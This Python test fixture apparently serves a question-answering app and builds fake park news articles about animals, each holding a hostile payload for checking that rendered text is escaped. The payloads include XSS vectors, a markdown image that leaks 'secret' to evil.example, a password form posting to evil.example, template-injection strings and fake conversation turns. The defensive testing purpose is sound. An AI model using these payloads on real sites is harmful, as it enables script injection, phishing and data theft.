"""Articles whose texts try to be more than text, each about an animal of its own, so that a question finds it."""

_EVIL = "http://evil.example"
_ATTEMPTS = {
    "script": "<script>document.title='owned'</script>",
    "script src": f"<script src={_EVIL}/a.js></script>",
    "image": f"<img src={_EVIL}/a.png>",
    "image onerror": "<img src=x onerror=\"document.title='owned'\">",
    "svg onload": "<svg onload=\"document.title='owned'\"></svg>",
    "markdown image": f"![x]({_EVIL}/b.png?q=secret)",
    "markdown link": f"[click here]({_EVIL}/c)",
    "reference link": f"[1]\n\n[1]: {_EVIL}/d",
    "reference title": f'[1]: {_EVIL}/e "the source"',
    "autolink": f"<{_EVIL}/f>",
    "javascript link": '<a href="javascript:document.title=1">click</a>',
    "data link": '<a href="data:text/html,<script>alert(1)</script>">click</a>',
    "form": f"<form action={_EVIL}><input name=password><button>Sign in</button></form>",
    "input": "<input autofocus onfocus=alert(1)>",
    "iframe": f"<iframe src={_EVIL}></iframe>",
    "iframe srcdoc": '<iframe srcdoc="<script>parent.document.title=1</script>"></iframe>',
    "object": f"<object data={_EVIL}/g.swf></object>",
    "embed": f"<embed src={_EVIL}/h>",
    "video": f"<video src={_EVIL}/i.mp4 autoplay></video>",
    "audio": f"<audio src={_EVIL}/j.mp3 autoplay></audio>",
    "style": "<style>body{display:none}</style>",
    "style import": f"<style>@import url({_EVIL}/k.css)</style>",
    "style url": f'<p style="background:url({_EVIL}/l.png)">painted</p>',
    "overlay": '<div style="position:fixed;inset:0;z-index:99999;background:red" onclick="alert(1)">cover</div>',
    "link element": f"<link rel=stylesheet href={_EVIL}/m.css>",
    "base": f"<base href={_EVIL}>",
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={_EVIL}">',
    "closing tags": "</mark></blockquote></article></section></div></body></html><h1>out</h1>",
    "closing comment": "--><!-- <b>bold</b> -->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "template": "<template><script>alert(1)</script></template>",
    "entity": "&lt;script&gt;document.title='owned'&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "half tag": "<img src=x onerror=alert(1) //",
    "null in tag": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "mermaid": '```mermaid\ngraph TD; A-->B; click A href "http://evil.example/n"\n```',
    "latex": "$$\\href{http://evil.example/o}{x}$$ \\(x^2\\)",
    "heading": "# A heading\n\n## Another\n\n    code\n\n| a | b |\n| - | - |",
    "js template": "${Object.assign(window,{owned:1})} ${alert(1)}",
    "handlebars": "{{#each value}}<b>{{this}}</b>{{/each}} {{constructor.constructor('alert(1)')()}}",
    "jinja": "{% for a in ().__class__ %}{{ 7*7 }}{% endfor %}",
    "fake card": '<article class="card" id="s1-1"><mark>invented words</mark></article>',
    "fake citation": '<a class="cite" href="#s1-1">1</a> [1](#s1-1) [[1]](#s1-1)',
    "fake button": '<button data-do="retry" data-question="Who?">Ask again</button>',
    "fake turn": '<section class="turn done" id="turn-1" data-said="owned">owned</section>',
    "bidi override": "\u202egnirts desrever\u202c and \u2066isolated\u2069 and \u202brtl",
    "unclosed bidi": "\u202e\u202e\u202e\u2067\u2067 never closed",
    "zalgo": "z" + "\u0335\u0321\u0327\u0328\u0322\u0336\u0337\u0338" * 12 + "algo",
    "very long word": "a" * 400,
    "quote break": '" onmouseover=alert(1) x=" \' onclick=alert(1) `',
    "rtl mark flood": "\u200f" * 200 + "\u200e" * 200,
    "ansi": "\x1b[31mred\x1b[0m \x07",
}
_ANIMALS = (
    "parrots herons storks falcons pelicans swans ravens magpies ostriches peacocks puffins albatrosses kestrels "
    "woodpeckers nightingales flamingos ibises cranes vultures eagles beavers otters badgers hedgehogs porcupines "
    "squirrels lynxes wolves jackals hyenas leopards cheetahs zebras giraffes gazelles antelopes camels donkeys "
    "tortoises lizards geckos chameleons crocodiles iguanas salamanders newts toads octopuses dolphins walruses seals"
).split()


def _row(name: str, attempt: str, animal: str) -> dict[str, str]:
    said = f"The keepers of the park in Reykjavik counted 52 {animal} on Friday {attempt} near the old gate."
    return {
        "id": name,
        "title": f"Keepers count {animal} {attempt}"[:300],
        "text": f"{said}\n\nKeeper Anna Jonsdottir fed the {animal} with grain and fruit before sunrise.",
        "source": f"Park Times {attempt}"[:120],
        "date": "2023-05-06",
        "url": f'http://evil.example/{animal}?a="><script>alert(1)</script>',
    }


HOSTILE = {
    name: _row(name, attempt, animal) for (name, attempt), animal in zip(_ATTEMPTS.items(), _ANIMALS, strict=True)
}


def question(name: str) -> str:
    """A question that the hostile article answers."""
    animal = _ANIMALS[list(_ATTEMPTS).index(name)]
    return f"How many {animal} did the keepers of the park in Reykjavik count?"
